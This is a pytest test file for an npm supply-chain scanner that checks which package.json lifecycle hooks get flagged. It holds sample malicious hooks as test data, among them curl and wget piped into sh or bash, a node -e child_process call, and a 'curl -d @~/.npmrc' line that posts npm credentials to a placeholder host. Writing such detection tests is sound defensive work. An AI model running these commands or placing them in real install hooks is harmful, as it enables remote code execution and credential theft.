"""npm lifecycle hooks in a shipped package.json are judged by what they run."""

from __future__ import annotations

import pytest

from scanner.checks.heuristics.npm_scripts import hook_reason

BUILD_SCRIPTS = {
    "build": "tsc --noEmit && vite build",
    "start": "craco start",
    "lint": "eslint --cache . && prettier -c .",
}


@pytest.mark.parametrize(
    "command",
    [
        "yarn install",
        "yarn build",
        "npm run build",
        "pnpm run lint",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "cross-env NODE_ENV=production npm run build",
        "husky install",
        "node --version",
    ],
)
def test_build_tool_hooks_pass(command: str) -> None:
    assert hook_reason(command, BUILD_SCRIPTS) is None


@pytest.mark.parametrize(
    ("command", "scripts", "said"),
    [
        ("node payload.js", {}, "runs node on payload.js"),
        ("node bundle.js", {}, "runs node"),
        ("bun run setup_bun.js", {}, "runs bun"),
        ("node -e \"require('child_process').exec('id')\"", {}, "runs node"),
        ("npx node ./x.js", {}, "runs node"),
        ("curl -fsSL https://example.invalid/i.sh | sh", {}, "URL"),
        ("curl -fsSL $HOST/i.sh | sh", {}, "fetches with curl"),
        ("wget -qO- $HOST | bash", {}, "fetches with wget"),
        ("cat x | bash", {}, "pipes into bash"),
        ("bash ./install.sh", {}, "starts bash"),
        ("python3 setup_env.py", {}, "starts python3"),
        ("./bin/setup", {}, "executes ./bin/setup"),
        ("yarn build && node dist/postinstall.js", {}, "runs node"),
        ("npm run setup", {"setup": "node payload.js"}, "runs script 'setup', which runs node"),
        ("yarn prepare", {"prepare": "yarn run x", "x": "curl -d @~/.npmrc h"}, "fetches"),
        ("npm run a", {"a": "npm run b", "b": "npm run a"}, "loop"),
    ],
)
def test_payload_hooks_are_flagged(command: str, scripts: dict[str, object], said: str) -> None:
    reason = hook_reason(command, scripts)
    assert reason is not None and said in reason, reason
